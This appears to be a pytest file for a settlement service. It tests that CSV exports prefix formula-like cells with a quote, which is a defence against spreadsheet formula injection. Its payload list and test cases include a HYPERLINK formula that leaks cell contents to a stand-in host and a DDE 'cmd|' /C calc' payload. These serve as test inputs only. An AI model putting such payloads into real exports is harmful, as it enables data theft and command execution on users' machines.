"""Exports are safe to open in a spreadsheet (issue 14, finding 7): no exported cell starts with
`=`, `+`, `-`, `@`, a tab or a carriage return unless it is a plain number.

The exports are found, not listed: every function of settlement.exports whose name ends in
`_csv`, fed a document whose every value is hostile text, and every module of the service that
makes a csv.writer. A new export that bypasses exports.writer() fails here."""
from __future__ import annotations

import csv
import inspect
import io
import itertools
import json
import re
from datetime import datetime, timezone
from pathlib import Path

import pytest
from flask import current_app

from settlement import exports
from tests.test_settlement import close, day, may  # noqa: F401  (may is a fixture)

ROOT = Path(__file__).resolve().parent.parent
PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\t=1+2", "\r=1+2", "x\r=1+2", "x\n-1+2", "x\r\n@A1", "=1+2"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP: what a spreadsheet may evaluate
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")
EXPORTS = sorted(name for name, f in vars(exports).items() if name.endswith("_csv") and callable(f))


class Hostile:
    """Any document an export may read: every key, item and element is another Hostile, and as
    text each one is a formula."""
    _texts = itertools.cycle(PAYLOADS)

    def __init__(self) -> None:
        self.text = next(self._texts)

    def __getitem__(self, key):
        return Hostile()

    def get(self, key, default=None):
        return Hostile()

    def __iter__(self):
        return iter([Hostile(), Hostile()])

    def items(self):
        return [(next(self._texts) + "1", Hostile()), (next(self._texts) + "2", Hostile())]

    def keys(self):
        return [key for key, _ in self.items()]

    def values(self):
        return [Hostile(), Hostile()]

    def __len__(self) -> int:
        return 2

    def __lt__(self, other) -> bool:
        return self.text < str(other)

    def __str__(self) -> str:
        return self.text

    __format__ = lambda self, spec: self.text  # noqa: E731


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def formulas(text: str) -> list[str]:
    return [c for c in cells(text) if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def test_there_are_exports_to_check():
    assert EXPORTS == ["report_csv", "statement_csv"]  # grows with the exports; never shrinks to none


@pytest.mark.parametrize("name", EXPORTS)
def test_no_cell_of_an_export_can_start_a_formula(name):
    export = getattr(exports, name)
    text = export(*[Hostile() for _ in inspect.signature(export).parameters])
    assert formulas(text) == []
    escaped = [c for c in cells(text) if c.startswith("'")]
    assert escaped and all(c[1:] in PAYLOADS or c[1:-1] in PAYLOADS for c in escaped), escaped


@pytest.mark.parametrize("value, cell", [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("+", "'+"), ("-1e3", "'-1e3"),
    ("-120", "-120"), ("-0.5", "-0.5"), ("+7", "+7"), ("0.009", "0.009"), (-120, -120),
    ("fuel", "fuel"), ("a=b", "a=b"), ("'=1", "'=1"), ("", ""), (None, None),
])
def test_safe_cell(value, cell):
    assert exports.safe_cell(value) == cell


def test_a_line_break_inside_a_cell_never_starts_a_row():
    out = io.StringIO()
    exports.writer(out).writerow(["x\r=1+2", "y\n-1", 5])
    assert out.getvalue() == '"x\r=1+2","y\n-1",5\n'
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [["x\r=1+2", "y\n-1", "5"]]


def test_real_statements_keep_their_numbers_and_lose_their_formulas(may):
    close(may, "2026-05", datetime(2026, 6, 2, tzinfo=timezone.utc))
    from settlement import service
    statement = service.signed(service.statement(may, "bakery", "2026-05"))["document"]
    report = json.loads(service.report(may, "2026-05").document)
    assert "net_cents,-909\n" in exports.statement_csv(statement, "d" * 64)
    assert "\nbakery,-909," in exports.report_csv(report, "d" * 64)
    statement["partner_id"] = statement["counterparties"][0]["partner_id"] = "=cmd|' /C calc'!A0"
    statement["terms"]["claim_fee"] = "-1+1"
    report["statements"][0]["partner_id"] = "@SUM(A1)"
    for text in (exports.statement_csv(statement, "+digest"), exports.report_csv(report, "+digest")):
        assert formulas(text) == []
    assert "partner_id,'=cmd|' /C calc'!A0\n" in exports.statement_csv(statement, "d")


def test_the_coalition_report_as_csv(may):
    close(may, "2026-05", datetime(2026, 6, 2, tzinfo=timezone.utc))
    from settlement import service
    signed = service.signed(service.report(may, "2026-05"))
    report = signed["document"]
    nets = {s["partner_id"]: s["digest"] for s in report["statements"]}
    assert exports.report_csv(report, signed["digest"]) == "\n".join([
        "field,value", "period,2026-05", "currency,EUR", "closed_at,2026-06-02T00:00:00Z",
        "totals.bonus_points_issued,0", "totals.points_expired,0", "totals.points_issued,1250", "totals.points_redeemed,1201",
        "operator_margin_cents,126",
        # netting, as counts and in cents: 8 money lines of 2618 cents in all against 3 net
        # payments of 1832 cents (docs/settlement.md)
        "payments.gross_obligations,8", "payments.gross_obligations_cents,2618",
        "payments.net_payments,3", "payments.net_payments_cents,1832",
        "payments.saved,5", "payments.saved_cents,786",
        f"ledger_anchor,{report['ledger_anchor']}", f"ledger_head,{report['ledger_head']}",
        f"digest,{signed['digest']}", "",
        "partner_id,net_cents,digest",
        f"bakery,-909,{nets['bakery']}", f"books,-70,{nets['books']}", f"fuel,853,{nets['fuel']}", "",
        "issuer,redeemer,points", "bakery,bakery,100", "bakery,books,200", "bakery,fuel,700",
        "books,bakery,1", "fuel,fuel,200", ""])
    assert len(signed["digest"]) == len(report["ledger_anchor"]) == 64


def test_the_api_and_the_cli_export_through_the_escaping_writer(may, runner, monkeypatch):
    from partners import service as partner_service
    from partners.client import PartnerClient
    from tests.conftest import new_key, public_pem, transport_for
    close(may, "2026-05", datetime(2026, 6, 2, tzinfo=timezone.utc))
    key = new_key("EdDSA")
    partner_service.add_key(may, "fuel", public_pem(key), now=day(2, month=6))
    may.commit()
    client = PartnerClient("", "fuel", key, transport=transport_for(current_app))
    # Every cell an export writes passes safe_cell: make it mark them, then look for the marks.
    monkeypatch.setattr(exports, "safe_cell", lambda value: f"<{value}>")
    api = client.request("GET", "/v1/statements/2026-05?format=csv").body.decode()
    cli_statement = runner.invoke(args=["settlement", "show", "2026-05", "--partner", "fuel",
                                        "--format", "csv"]).output
    cli_report = runner.invoke(args=["settlement", "show", "2026-05", "--format", "csv"]).output
    for text in (api, cli_statement, cli_report):
        assert text and all(c.startswith("<") and c.endswith(">") for c in cells(text)), text


def test_no_other_module_writes_csv():
    """A new export elsewhere would bypass the escaping writer: make it use exports.writer()."""
    writers = re.compile(r"\bcsv\.(writer|DictWriter)\b|\bfrom csv import\b")
    sources = [p for d in ("coalition", "partners", "settlement") for p in (ROOT / d).rglob("*.py")]
    assert [str(p.relative_to(ROOT)) for p in sources if writers.search(p.read_text())
            and p != ROOT / "settlement" / "exports.py"] == []
